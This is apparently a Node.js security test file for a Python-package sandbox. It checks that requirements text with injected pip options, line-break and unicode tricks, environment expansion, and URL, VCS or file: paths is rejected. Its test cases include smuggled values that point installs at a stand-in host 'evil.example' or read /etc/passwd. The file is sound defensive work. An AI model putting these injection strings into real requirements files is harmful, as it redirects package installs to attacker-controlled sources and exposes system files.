'use strict';

// Requirements text is the attacker's: every way of smuggling an installer
// option, another index, a URL, a path or an environment variable into it is
// refused in C++ (ERR_REQUIREMENTS_INVALID, naming the line) before any
// installer runs or any request leaves the host.

const { describe, it, before, after } = require('node:test');
const assert = require('node:assert/strict');
const fs = require('node:fs');
const http = require('node:http');
const os = require('node:os');
const path = require('node:path');
const { Sandbox } = require('../..');
const { skipWithoutAddon, scratchDataDir, TIER } = require('./common');

const CASES = {
  'option lines': [
    '-r /etc/passwd', '--requirement=/etc/passwd', '-c /etc/passwd', '-e .', '--editable=./x',
    '-e git+https://evil.example/r.git#egg=x', '--index-url http://evil.example/simple', '-ihttp://evil.example/simple',
    '--extra-index-url=http://evil.example/simple', '-f http://evil.example/', '--find-links=/tmp',
    '--trusted-host evil.example', '--pre', '--no-binary :all:', '--only-binary=:none:', '--global-option=x',
  ],
  'options after a requirement on its line': [
    'pycage-hello --hash=sha256:00', 'pycage-hello --index-url http://evil.example/simple',
    'pycage-hello==1.0 -i http://evil.example/simple', 'pycage-hello; --index-url http://evil.example/simple',
    'pycage-hello ; python_version >= "3" --extra-index-url http://evil.example/simple',
  ],
  'CR, LF and other line-break tricks': [
    'pycage-hello \\\n--index-url http://evil.example/simple', 'pycage-hello\r--index-url http://evil.example/simple',
    'pycage-hello\u2028--index-url http://evil.example/simple', 'pycage-hello\u0085-r /etc/passwd',
    'pycage-hello\f-r /etc/passwd', 'pycage-hello\v-r /etc/passwd', 'pycage-hello\0-r /etc/passwd',
  ],
  'unicode lookalikes': [
    '\uFF0Dr /etc/passwd', '\u2010\u2010index-url http://evil.example/simple', '\u2212r /etc/passwd',
    'pycage\u2010hello', 'pycage-hell\u043e', 'pycage-hello\u00a0==1.0', 'pycage-hello\u200b', '\ufeffpycage-hello',
  ],
  'environment variable expansion': [
    '${HOME}', 'pycage-hello==${VERSION}', 'pycage-hello @ ${PIP_INDEX_URL}', '$HOME/x.whl', 'pycage-hello[${X}]',
  ],
  'URLs, VCS, paths and file:': [
    'https://evil.example/x.whl', 'pycage-hello @ https://evil.example/x.whl', 'pycage-hello@https://evil.example/x.whl',
    'pycage-hello @ file:///etc/passwd', 'file:///etc/passwd', '/etc/passwd', './local', '../up', '~/x',
    'C:\\x\\y.whl', 'x.whl', 'x.tar.gz', 'git+https://evil.example/r.git', 'git+ssh://git@evil.example/r.git',
    'hg+https://evil.example/r', 'svn+https://evil.example/r', 'bzr+https://evil.example/r',
    'pycage-hello @ git+https://evil.example/r.git',
  ],
};

describe('security: option injection in requirements text', { skip: skipWithoutAddon }, () => {
  let sandbox;
  let dataDir;
  let index;
  const requests = [];
  before(async () => {
    // An "index" that only counts: nothing may reach it.
    index = http.createServer((req, res) => { requests.push(req.url); res.statusCode = 404; res.end(); });
    await new Promise((resolve) => index.listen(0, '127.0.0.1', resolve));
    dataDir = scratchDataDir('pycage-inject-');
    sandbox = new Sandbox({ dataDir, index: { url: `http://127.0.0.1:${index.address().port}/simple/` }, isolation: TIER });
  });
  after(async () => {
    if (sandbox) await sandbox.close();
    index.close();
    fs.rmSync(dataDir, { recursive: true, force: true });
  });

  for (const [group, lines] of Object.entries(CASES)) {
    it(`refuses ${group}, naming the line, before any installer runs`, async () => {
      for (const line of lines) {
        // The bad line is line 3, behind a good one and a comment.
        const text = `pycage-hello==1.0\n# a comment\n${line}\n`;
        await assert.rejects(sandbox.install('wf-inject', text), (err) => {
          assert.equal(err.code, 'ERR_REQUIREMENTS_INVALID', `${JSON.stringify(line)}: ${err.message}`);
          assert.match(err.message, /^requirements line 3: /, JSON.stringify(line));
          return true;
        });
      }
      assert.deepEqual(requests, [], 'a request reached the index');
      assert.equal(sandbox.status('wf-inject').status, 'none');
    });
  }

  it('refuses more than 1,000 lines or 64 KiB of text', async () => {
    const many = Array.from({ length: 1001 }, (_, i) => `pkg${i}`).join('\n');
    await assert.rejects(sandbox.install('wf-big', many), { code: 'ERR_REQUIREMENTS_INVALID' });
    const wide = `pycage-hello ; ${'python_version >= "3" and '.repeat(3000)}python_version >= "3"\n`;
    await assert.rejects(sandbox.install('wf-big', wide), { code: 'ERR_REQUIREMENTS_INVALID' });
    assert.deepEqual(requests, []);
  });
});
